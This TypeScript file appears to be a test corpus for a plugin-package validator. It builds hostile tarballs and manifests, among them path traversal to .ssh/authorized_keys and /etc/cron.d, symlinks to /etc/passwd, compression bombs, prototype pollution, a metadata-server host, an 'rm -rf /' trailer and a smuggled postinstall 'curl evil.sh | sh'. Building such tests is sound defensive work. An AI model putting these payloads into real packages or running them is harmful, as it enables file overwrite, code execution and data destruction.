import type { ErrorCode } from '@mlebotics/shared';
import { manifestFor, pluginFiles } from './plugins.js';
import { concat, gzip, paxRecords, rawTar, type RawEntry } from './tar-builder.js';

/** One hostile or broken package and the code it must be rejected with. */
export interface HostileCase {
  name: string;
  code: ErrorCode;
  /** Some cases cannot be announced through an upload intent (an empty file); the CLI covers them. */
  cliOnly?: boolean;
  build(): Uint8Array;
}

const enc = new TextEncoder();

function fileEntries(files: Record<string, string | Uint8Array>): RawEntry[] {
  const names = Object.keys(files).sort((a, b) =>
    a === 'plugin.json' ? -1 : b === 'plugin.json' ? 1 : a < b ? -1 : 1,
  );
  return names.map((name) => ({ name, data: files[name]! }));
}

/** A valid plugin's entries plus `extra` raw entries, gzipped. */
function withExtra(id: string, extra: RawEntry[]): Uint8Array {
  return gzip(rawTar([...fileEntries(pluginFiles(id)), ...extra]));
}

/** A plugin with manifest overrides (and file changes), gzipped. */
function withManifest(
  id: string,
  overrides: Record<string, unknown>,
  files: Record<string, string | Uint8Array | null> = {},
): Uint8Array {
  const base = pluginFiles(id, overrides as never);
  for (const [name, value] of Object.entries(files)) {
    if (value === null) delete base[name];
    else base[name] = value;
  }
  return gzip(rawTar(fileEntries(base)));
}

function withManifestText(id: string, text: string | Uint8Array): Uint8Array {
  return gzip(rawTar(fileEntries({ ...pluginFiles(id), 'plugin.json': text })));
}

function deepSchema(depth: number): Record<string, unknown> {
  let schema: Record<string, unknown> = { type: 'string' };
  for (let i = 0; i < depth; i++) schema = { type: 'array', items: schema };
  return schema;
}

/** Data that compresses about `ratio` times (pseudo-random bytes among zeros), deterministic. */
function compressible(size: number, ratio: number): Uint8Array {
  const out = new Uint8Array(size);
  let seed = 12345;
  const every = Math.max(1, Math.floor(ratio / 2));
  for (let i = 0; i < size; i += every) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    out[i] = seed & 0xff;
  }
  return out;
}

/**
 * The hostile-package corpus for `publisherId`: path traversal in every tar spelling, absolute
 * paths, links and devices, duplicate and colliding names, bombs, broken gzip and tar streams,
 * and manifests that are huge, deep, prototype-polluting or wrong in their own ways.
 */
export function hostileCorpus(publisherId: string): HostileCase[] {
  const id = `${publisherId}.hostile`;
  const manifest = manifestFor(id);
  const validTar = rawTar(fileEntries(pluginFiles(id)));
  return [
    // Path traversal, in each place a tar can spell a name.
    {
      name: 'traversal in the ustar name',
      code: 'path-traversal',
      build: () => withExtra(id, [{ name: '../evil.js', data: 'x' }]),
    },
    {
      name: 'traversal in the ustar prefix',
      code: 'path-traversal',
      build: () => withExtra(id, [{ name: 'evil.js', prefix: '../../etc', data: 'x' }]),
    },
    {
      name: 'traversal in a PAX path',
      code: 'path-traversal',
      build: () =>
        withExtra(id, [
          { name: 'PaxHeaders/x', type: 'x', data: paxRecords({ path: '../../.ssh/authorized_keys' }) },
          { name: 'harmless.txt', data: 'key' },
        ]),
    },
    {
      name: 'traversal in a GNU long name',
      code: 'path-traversal',
      build: () =>
        withExtra(id, [
          { name: '././@LongLink', type: 'L', data: `${'a/'.repeat(60)}../../../evil.js\0` },
          { name: 'short.js', data: 'x' },
        ]),
    },
    {
      name: 'traversal through a nested directory',
      code: 'path-traversal',
      build: () => withExtra(id, [{ name: 'lib/../../evil.js', data: 'x' }]),
    },
    {
      name: 'backslash traversal (Windows separators)',
      code: 'path-invalid',
      build: () => withExtra(id, [{ name: '..\\..\\evil.js', data: 'x' }]),
    },
    {
      name: 'absolute path',
      code: 'path-absolute',
      build: () => withExtra(id, [{ name: '/etc/cron.d/evil', data: 'x' }]),
    },
    {
      name: 'Windows drive path',
      code: 'path-absolute',
      build: () => withExtra(id, [{ name: 'C:/Windows/evil.dll', data: 'x' }]),
    },
    {
      name: 'NUL inside a PAX path',
      code: 'path-invalid',
      build: () =>
        withExtra(id, [
          { name: 'PaxHeaders/n', type: 'x', data: paxRecords({ path: 'ok.js\0../../evil.js' }) },
          { name: 'ok.js', data: 'x' },
        ]),
    },
    {
      name: 'control character in a name',
      code: 'path-invalid',
      build: () => withExtra(id, [{ name: 'bell\u0007.js', data: 'x' }]),
    },
    {
      name: 'name that is not UTF-8',
      code: 'path-not-utf8',
      build: () => withExtra(id, [{ name: Uint8Array.from([0x66, 0xff, 0xfe, 0x2e, 0x6a, 0x73]), data: 'x' }]),
    },
    {
      name: 'path longer than 200 bytes',
      code: 'path-too-long',
      build: () =>
        withExtra(id, [
          { name: 'PaxHeaders/l', type: 'x', data: paxRecords({ path: `${'deep/'.repeat(45)}file.js` }) },
          { name: 'long.js', data: 'x' },
        ]),
    },
    // Links, devices, fifos.
    {
      name: 'symbolic link',
      code: 'entry-type-forbidden',
      build: () => withExtra(id, [{ name: 'passwd', type: '2', linkname: '/etc/passwd' }]),
    },
    {
      name: 'hard link',
      code: 'entry-type-forbidden',
      build: () => withExtra(id, [{ name: 'copy.js', type: '1', linkname: 'index.js' }]),
    },
    {
      name: 'character device',
      code: 'entry-type-forbidden',
      build: () => withExtra(id, [{ name: 'zero', type: '3' }]),
    },
    { name: 'block device', code: 'entry-type-forbidden', build: () => withExtra(id, [{ name: 'sda', type: '4' }]) },
    { name: 'fifo', code: 'entry-type-forbidden', build: () => withExtra(id, [{ name: 'pipe', type: '6' }]) },
    // Duplicates and collisions.
    {
      name: 'the same name twice',
      code: 'path-duplicate',
      build: () => withExtra(id, [{ name: 'index.js', data: 'export default {}' }]),
    },
    {
      name: 'names equal after Unicode NFC',
      code: 'path-duplicate',
      build: () =>
        withExtra(id, [
          { name: 'caf\u00e9.js', data: 'a' },
          { name: 'cafe\u0301.js', data: 'b' },
        ]),
    },
    {
      name: 'names equal after case folding',
      code: 'path-duplicate',
      build: () => withExtra(id, [{ name: 'Index.js', data: 'a' }]),
    },
    {
      name: 'a name used as file and directory',
      code: 'path-duplicate',
      build: () =>
        withExtra(id, [
          { name: 'lib', data: 'a' },
          { name: 'lib/x.js', data: 'b' },
        ]),
    },
    // Bombs.
    {
      name: 'size bomb (over 100 MiB unpacked at a plausible ratio)',
      code: 'uncompressed-too-large',
      build: () =>
        gzip(
          concat([
            rawTar(fileEntries(pluginFiles(id)), { end: false }),
            rawTar([{ name: 'blob.bin', data: compressible(101 * 1024 * 1024, 40) }]),
          ]),
          1,
        ),
    },
    {
      name: 'ratio bomb (zeros)',
      code: 'compression-ratio-exceeded',
      build: () => withExtra(id, [{ name: 'zeros.bin', data: new Uint8Array(20 * 1024 * 1024) }]),
    },
    {
      name: 'entry-count bomb',
      code: 'too-many-entries',
      build: () =>
        withExtra(
          id,
          Array.from({ length: 2001 }, (_, i) => ({ name: `many/f${i}.txt`, data: '' })),
        ),
    },
    // Broken streams.
    { name: 'not gzip (a bare tar)', code: 'not-gzip', build: () => validTar },
    { name: 'truncated gzip', code: 'gzip-truncated', build: () => gzip(validTar).subarray(0, 400) },
    {
      name: 'concatenated gzip members',
      code: 'gzip-trailing-data',
      build: () => concat([gzip(validTar), gzip(validTar)]),
    },
    {
      name: 'garbage after the gzip member',
      code: 'gzip-trailing-data',
      build: () => concat([gzip(validTar), enc.encode('#!/bin/sh\nrm -rf /\n')]),
    },
    {
      name: 'gzip CRC mismatch',
      code: 'gzip-corrupt',
      build: () => {
        const bytes = gzip(validTar).slice();
        bytes[bytes.length - 8]! ^= 0xff;
        return bytes;
      },
    },
    {
      name: 'truncated tar inside valid gzip',
      code: 'tar-truncated',
      build: () => gzip(validTar.subarray(0, validTar.length - 2048 + 100)),
    },
    {
      name: 'corrupt tar header checksum',
      code: 'tar-corrupt',
      build: () => withExtra(id, [{ name: 'bad.js', data: 'x', badChecksum: true }]),
    },
    {
      name: 'entries hidden after the end-of-archive marker',
      code: 'tar-entries-after-end',
      build: () => gzip(concat([validTar, rawTar([{ name: 'hidden.js', data: 'steal()' }])])),
    },
    { name: 'empty file', code: 'package-empty', cliOnly: true, build: () => new Uint8Array() },
    // Manifests.
    { name: 'no plugin.json', code: 'manifest-missing', build: () => withManifest(id, {}, { 'plugin.json': null }) },
    {
      name: 'huge plugin.json',
      code: 'manifest-too-large',
      build: () => withManifestText(id, JSON.stringify({ ...manifest, padding: 'x'.repeat(70 * 1024) })),
    },
    {
      name: 'deeply nested plugin.json',
      code: 'manifest-too-deep',
      build: () =>
        withManifest(id, {
          capabilities: [
            {
              type: 'automation-step',
              id: 'deep',
              title: 'Deep',
              inputSchema: deepSchema(40),
              outputSchema: { type: 'object' },
            },
          ],
        }),
    },
    {
      name: 'prototype-polluting plugin.json',
      code: 'manifest-forbidden-key',
      build: () => withManifestText(id, JSON.stringify(manifest).replace(/^\{/, '{"__proto__":{"isAdmin":true},')),
    },
    {
      name: 'plugin.json that is not JSON',
      code: 'manifest-not-json',
      build: () => withManifestText(id, '{ "id": "x", // comments are not JSON\n}'),
    },
    {
      name: 'plugin.json that is not UTF-8',
      code: 'manifest-not-json',
      build: () => withManifestText(id, Uint8Array.from([0x7b, 0xff, 0x7d])),
    },
    {
      name: 'manifest referencing a missing main file',
      code: 'manifest-file-missing',
      build: () => withManifest(id, {}, { 'index.js': null }),
    },
    { name: 'bad semver', code: 'manifest-version-invalid', build: () => withManifest(id, { version: '1.0' }) },
    {
      name: 'engine range that is not a range',
      code: 'manifest-engine-range-invalid',
      build: () => withManifest(id, { engines: { platform: 'latest and greatest' } }),
    },
    {
      name: 'unknown permission',
      code: 'permission-unknown',
      build: () => withManifest(id, { permissions: [{ name: 'camera:spy', reason: 'Watches everyone all the time' }] }),
    },
    {
      name: 'wildcard network host',
      code: 'permission-host-wildcard',
      build: () =>
        withManifest(id, {
          permissions: [{ name: 'network:fetch', reason: 'Talks to any subdomain', hosts: ['*.example.com'] }],
        }),
    },
    {
      name: 'metadata-server IP as a host',
      code: 'permission-host-forbidden',
      build: () =>
        withManifest(id, {
          permissions: [{ name: 'network:fetch', reason: 'Reads instance credentials', hosts: ['169.254.169.254'] }],
        }),
    },
    {
      name: 'id outside the publisher namespace',
      code: 'manifest-id-publisher-mismatch',
      build: () => withManifest(id, { id: `other-${publisherId}.hostile` }),
    },
    {
      name: 'duplicate capability ids',
      code: 'capability-duplicate-id',
      build: () => withManifest(id, { capabilities: [manifest.capabilities[0], manifest.capabilities[0]] }),
    },
    {
      name: 'step schema with a ReDoS-prone pattern',
      code: 'capability-schema-invalid',
      build: () =>
        withManifest(id, {
          capabilities: [
            {
              type: 'automation-step',
              id: 'redos',
              title: 'ReDoS',
              inputSchema: { type: 'string', pattern: '^(a+)+$' },
              outputSchema: { type: 'object' },
            },
          ],
        }),
    },
    {
      name: 'ui panel without the ui:panel permission',
      code: 'permission-required',
      build: () =>
        withManifest(
          id,
          { capabilities: [{ type: 'ui-panel', id: 'panel', title: 'Panel', entry: 'panel.html' }] },
          { 'panel.html': '<!doctype html><p>hi</p>' },
        ),
    },
    {
      name: 'icon that is not PNG or SVG',
      code: 'icon-invalid',
      build: () => withManifest(id, { icon: 'icon.gif' }, { 'icon.gif': 'GIF89a' }),
    },
    {
      name: 'install script smuggled into the manifest',
      code: 'manifest-schema',
      build: () => withManifestText(id, JSON.stringify({ ...manifest, scripts: { postinstall: 'curl evil.sh | sh' } })),
    },
  ];
}
